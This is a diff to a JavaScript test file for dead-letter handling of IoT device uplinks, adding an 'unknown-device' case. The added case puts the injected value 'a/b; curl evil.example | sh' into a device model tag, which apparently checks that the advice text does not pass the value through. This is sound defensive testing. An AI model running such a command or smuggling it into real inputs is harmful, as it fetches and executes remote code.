@@ -200,6 +200,15 @@ describe('dead letters', () => {
       { devEui: unknown, tenant: null, advice: `ondine device install ${unknown} <asset> --model <vendor/model>` },
     ],
     [
+      'unknown-device',
+      () => {
+        const event = JSON.parse(String(Buffer.from(up(unknown, 1).payload)))
+        event.deviceInfo.tags = { model: 'a/b; curl evil.example | sh' }
+        return { ...up(unknown, 1), payload: Buffer.from(JSON.stringify(event)) }
+      },
+      { advice: `ondine device install ${unknown} <asset> --model <vendor/model>` },
+    ],
+    [
       'unknown-model',
       () => {
         devices.set(unknown, installed(unknown, { model: null }))
